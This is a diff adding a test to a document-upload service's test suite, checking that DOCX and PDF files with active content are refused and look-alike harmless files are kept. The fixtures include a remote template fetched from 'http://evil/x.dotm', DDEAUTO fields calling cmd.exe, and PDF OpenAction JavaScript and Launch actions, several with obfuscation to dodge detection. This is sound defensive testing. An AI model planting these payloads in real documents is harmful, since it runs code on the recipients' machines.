@@ -1,10 +1,11 @@
 import { createHash } from 'node:crypto';
+import { deflateSync } from 'node:zlib';
 import { afterEach, beforeEach, expect, test } from 'vitest';
 import { megabyte } from '#domain/kernel/units.ts';
 import { documentLimits } from '#domain/permits/documents/document.limits.ts';
 import { permitLimits } from '#domain/permits/kernel/permit.limits.data.ts';
 import { receive } from '#server/modules/documents/documents.receive.ts';
-import { pdf, xlsx, zipOf } from '#tests/kit/officeFiles.ts';
+import { docx, pdf, xlsx, zipOf } from '#tests/kit/officeFiles.ts';
 import { type Desk, desk, faultInHistory, openDesk } from '#tests/kit/permitDesk.ts';
 import { jpeg, png, remark, svg, webp, whereTaken } from '#tests/kit/pictures.ts';
 import { signIn, withToken } from '#tests/kit/server.ts';
@@ -164,6 +165,51 @@ describeStores('documents of a permit', (store) => {
       ['remark.png', png(2000, remark('taken at the gate'))],
       ['small.webp', webp],
       ['book.xlsx', xlsx({ 'xl/worksheets/sheet1.xml': '<sheetData/>' }, true)],
+    ];
+    for (const [name, bytes] of kept) expect([name, (await add(id, name, bytes)).statusCode]).toEqual([name, 200]);
+  });
+
+  test('nothing is kept that fetches or starts something when it is opened', async () => {
+    const id = await at.put({ state: 'draft' });
+    const relation = (kind: string, mode: string) => ({
+      'word/_rels/settings.xml.rels': `<Relationships><Relationship Id="r1" Type="http://x/${kind}" Target="http://evil/x.dotm" ${mode}/></Relationships>`,
+    });
+    const text = (body: string) => docx({ 'word/document.xml': `<w:document>${body}</w:document>` });
+    const field = (...runs: string[]) =>
+      `<w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}`;
+    const objects = (...bodies: (string | Buffer)[]) =>
+      Buffer.concat([Buffer.from('%PDF-1.7\n'), ...bodies.map((body) => Buffer.from(body)), Buffer.from('\n%%EOF\n')]);
+    const packed = (content: string, about = '/Type /ObjStm /Filter /FlateDecode') =>
+      Buffer.concat([Buffer.from(`7 0 obj << ${about} >>\nstream\n`), deflateSync(content), Buffer.from('\nendstream endobj\n')]);
+    const refused: [name: string, bytes: Buffer, said: RegExp][] = [
+      ['template.docx', docx(relation('attachedTemplate', 'TargetMode="External"')), /from elsewhere/],
+      ['spelled.docx', docx(relation('attachedTemplate', 'TargetMode="&#69;xternal"')), /from elsewhere/],
+      ['dde.docx', text(field(' DDEAUTO c:\\windows\\cmd.exe')), /from elsewhere/],
+      ['cut.docx', text(field(' D', 'DE', 'AUTO cmd')), /from elsewhere/],
+      ['simple.docx', text('<w:fldSimple w:instr="DDE cmd"/>'), /from elsewhere/],
+      ['twice.docx', docx({ 'Word/document.xml': '<document/>' }), /not whole/],
+      ['script.pdf', objects('1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj'), /scripts/],
+      ['figures.pdf', objects('1 0 obj << /OpenAction << /S /J#61vaScript >> >> endobj'), /scripts/],
+      ['launch.pdf', objects('1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj'), /scripts/],
+      ['after.pdf', objects(packed('no list', '/Filter /FlateDecode'), '2 0 obj << /S/Launch>> endobj'), /scripts/],
+      ['packed.pdf', objects(packed('2 0 << /S /JavaScript >>')), /scripts/],
+    ];
+    for (const [name, bytes, said] of refused) {
+      const reply = await add(id, name, bytes);
+      expect([name, reply.statusCode]).toEqual([name, 422]);
+      expect([name, reply.json().errors[0].message]).toEqual([name, expect.stringMatching(said)]);
+    }
+    expect(await left()).toBe(0);
+    const kept: [name: string, bytes: Buffer][] = [
+      ['linked.docx', docx(relation('hyperlink', 'TargetMode="External"'))],
+      ['own.docx', docx(relation('styles', 'TargetMode="Internal"'))],
+      ['fields.docx', text(`${field(' PAGE ')}${field(' REF DDE_note ')}DDEAUTO is not a field here.`)],
+      // What a page shows is packed, and may hold any bytes; a name may begin like another one.
+      [
+        'shown.pdf',
+        objects(packed('/JS /Launch', '/Filter /FlateDecode'), '3 0 obj << /JSColour 1 /OpenAction [1 0 R /Fit] >> endobj'),
+      ],
+      ['list.pdf', objects(packed('2 0 << /Type /Catalog >>'))],
     ];
     for (const [name, bytes] of kept) expect([name, (await add(id, name, bytes)).statusCode]).toEqual([name, 200]);
   });
